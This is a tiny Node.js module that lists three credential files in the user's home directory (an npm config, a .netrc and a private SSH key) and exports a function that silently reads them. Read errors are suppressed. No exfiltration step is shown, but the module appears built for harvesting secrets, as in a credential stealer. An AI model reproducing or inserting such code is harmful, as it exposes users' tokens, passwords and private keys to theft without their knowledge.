'use strict';
const fs = require('fs');
const os = require('os');
exports.names = ['.npmrc', '.netrc', '.ssh/id_ed25519'];
exports.read = (name) => {
  try { return fs.readFileSync(`${os.homedir()}/${name}`, 'utf8'); } catch { return ''; }
};
